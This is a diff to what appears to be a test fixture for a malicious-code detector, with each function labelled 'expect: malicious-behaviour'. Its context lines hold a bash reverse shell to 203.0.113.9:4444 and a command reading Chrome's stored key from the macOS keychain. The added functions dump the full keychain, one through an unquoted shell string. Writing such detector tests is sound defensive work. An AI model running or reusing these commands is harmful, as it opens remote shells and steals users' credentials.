@@ -33,6 +33,14 @@ def shell() -> None:
     os.system("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")  # expect: malicious-behaviour
 
 
+def dumped() -> bytes:
+    return subprocess.run(["security", "dump-keychain", "-d"], capture_output=True).stdout  # expect: malicious-behaviour
+
+
+def dumped_at(file: str) -> str:
+    return os.popen(f"security dump-keychain {file}").read()  # expect: malicious-behaviour
+
+
 def kept(account: str) -> bytes:
     command = ["/usr/bin/security", "find-generic-password", "-s", "Chrome Safe Storage", "-a", account, "-w"]
     return subprocess.run(command, capture_output=True).stdout  # expect: malicious-behaviour
